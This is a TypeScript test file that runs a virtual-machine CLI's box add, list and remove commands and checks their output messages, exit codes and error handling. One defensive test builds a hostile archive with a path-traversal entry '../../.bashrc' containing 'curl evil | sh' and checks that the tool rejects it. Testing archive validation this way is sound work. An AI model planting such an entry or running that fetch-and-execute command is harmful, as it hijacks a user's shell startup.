// `vm box add|list|remove` as a user runs them (node bin/run.js): messages, exit codes, no stack traces.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { spawnSync } from 'node:child_process';
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { REPO, ensureDist } from '../../../support/dist.js';
import { saveMachineState } from '../../../../src/core/machines/state.js';
import { boxItems, demoFiles, demoManifest, snapshot, tempEnv, writeArchive, writeBoxFolder, type TempEnv } from '../../core/boxes/fixtures.js';

let t: TempEnv;
const STACK = /\n\s+at .+[:(]\d+:\d+/;
beforeAll(() => {
  ensureDist();
  t = tempEnv();
}, 180_000);
afterAll(() => t.cleanup());

function vm(...args: string[]): { code: number | null; out: string; err: string } {
  const env = { ...process.env, VM_HOME: t.loc.home, VM_BUNDLED_BOXES_DIR: t.loc.bundledDir, NO_COLOR: '1' };
  delete env.FORCE_COLOR;
  const r = spawnSync(process.execPath, [join(REPO, 'bin/run.js'), ...args], { cwd: t.root, env, encoding: 'utf8' });
  return { code: r.status, out: r.stdout, err: r.stderr };
}

describe('vm box', () => {
  it('add, list, refuse a duplicate, remove', () => {
    const files = demoFiles();
    const archive = writeArchive(join(t.root, 'demo.box'), boxItems(files));
    const dir = join(t.loc.home, 'boxes/demo/1.0.0');
    expect(vm('box', 'add', archive)).toEqual({ code: 0, out: `Added box 'demo' 1.0.0 (riscv64; builtin, qemu) in ${dir}\n`, err: '' });
    const again = vm('box', 'add', archive);
    expect(again.code).toBe(1);
    expect(again.err).toBe(`Error: box 'demo' 1.0.0 is already in the store (${dir})\nHint: pass --force to replace it\n`);
    expect(vm('box', 'add', archive, '--force').out).toBe(`Replaced box 'demo' 1.0.0 (riscv64; builtin, qemu) in ${dir}\n`);

    const bundledFiles = demoFiles();
    writeBoxFolder(join(t.loc.bundledDir, 'tiny'), bundledFiles, demoManifest(bundledFiles, { name: 'tiny', version: '0.1.0' }));
    const table = vm('box', 'list').out.split('\n');
    expect(table[0]).toMatch(/^NAME\s+VERSION\s+ARCH\s+ENGINES\s+SIZE\s+SOURCE$/);
    expect(table[1]).toMatch(/^demo\s+1\.0\.0\s+riscv64\s+builtin,qemu\s+4\.0 MiB\s+store$/);
    expect(table[2]).toMatch(/^tiny\s+0\.1\.0\s+riscv64\s+builtin,qemu\s+4\.0 MiB\s+bundled$/);
    const json = JSON.parse(vm('box', 'list', '--json').out);
    expect(json.map((r: { name: string; source: string; stored: boolean }) => [r.name, r.source, r.stored])).toEqual([
      ['demo', 'store', true],
      ['tiny', 'bundled', false],
    ]);

    expect(vm('box', 'remove', 'demo')).toEqual({ code: 0, out: "Removed box 'demo' 1.0.0\n", err: '' });
    const none = vm('box', 'remove', 'demo');
    expect(none.code).toBe(1);
    expect(none.err).toBe("Error: box 'demo' is not in the store\nHint: see `vm box list`\n");
  });

  it('a hostile archive: exit 1, the reason, no stack trace, store unchanged', () => {
    const before = snapshot(t.loc.home);
    const archive = writeArchive(join(t.root, 'evil.box'), [...boxItems(demoFiles()), { name: '../../.bashrc', data: 'curl evil | sh' }]);
    const r = vm('box', 'add', archive);
    expect(r.code).toBe(1);
    expect(r.err).toBe(`Error: archive ${archive}: entry "../../.bashrc" points outside the box ('..' in its path)\n`);
    expect(r.err).not.toMatch(STACK);
    expect(snapshot(t.loc.home)).toEqual(before);
  });

  it('remove refuses while a machine uses the box, names it, and --force overrides', async () => {
    const files = demoFiles();
    vm('box', 'add', writeBoxFolder(join(t.root, 'used'), files, demoManifest(files, { name: 'used' })));
    const project = join(t.root, 'proj');
    mkdirSync(project);
    writeFileSync(join(project, 'Vmfile'), 'box: used\n');
    await saveMachineState(
      project,
      { format: 1, name: 'default', engine: 'builtin', state: 'halted', sockets: {}, createdAt: 'x', updatedAt: 'x', box: { name: 'used', version: '1.0.0', checksum: 'c' }, configHash: 'h' },
      { index: t.loc },
    );
    const r = vm('box', 'remove', 'used');
    expect(r.code).toBe(1);
    expect(r.err).toBe(`Error: box 'used' 1.0.0 is used by machine 'default' in ${project}\nHint: destroy the machine first, or pass --force to remove the box anyway\n`);
    expect(vm('box', 'remove', 'used', '--force').out).toBe("Removed box 'used' 1.0.0\n");
  });

  it('bad arguments: a missing path and an unknown flag', () => {
    const r = vm('box', 'add', join(t.root, 'missing.box'));
    expect(r.code).toBe(1);
    expect(r.err).toBe(`Error: ${join(t.root, 'missing.box')} does not exist\nHint: pass a box folder (with box.json) or a .box archive\n`);
    const f = vm('box', 'list', '--colour');
    expect(f.code).not.toBe(0);
    expect(f.err).not.toMatch(STACK);
  });
});
